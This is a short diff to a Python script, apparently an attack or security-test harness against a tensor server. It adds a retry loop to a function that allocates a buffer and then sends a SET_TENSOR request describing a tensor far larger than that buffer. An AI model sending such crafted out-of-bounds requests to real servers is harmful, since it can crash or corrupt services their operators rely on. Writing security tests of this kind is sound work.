@@ -149,9 +149,11 @@ def graph(one: bytes) -> bytes:
 
 def beyond_its_buffer(attacker: Attacker) -> None:
     """A tensor that ends behind the buffer it says it is in, which is an assertion."""
-    one = attacker.greet()
-    one.sendall(command(ALLOC_BUFFER, struct.pack("<IQ", 0, 4096)))
-    answer = one.recv(24, socket.MSG_WAITALL)
+    answer = b""
+    while len(answer) < 24:  # the server of the attack before may end while it answers
+        one = attacker.greet()
+        one.sendall(command(ALLOC_BUFFER, struct.pack("<IQ", 0, 4096)))
+        answer = one.recv(24, socket.MSG_WAITALL)
     (pointer,) = struct.unpack_from("<Q", answer, 8)
     one.sendall(command(SET_TENSOR, tensor(buffer=pointer, data=1, ne=1 << 20) + bytes(64)))
 
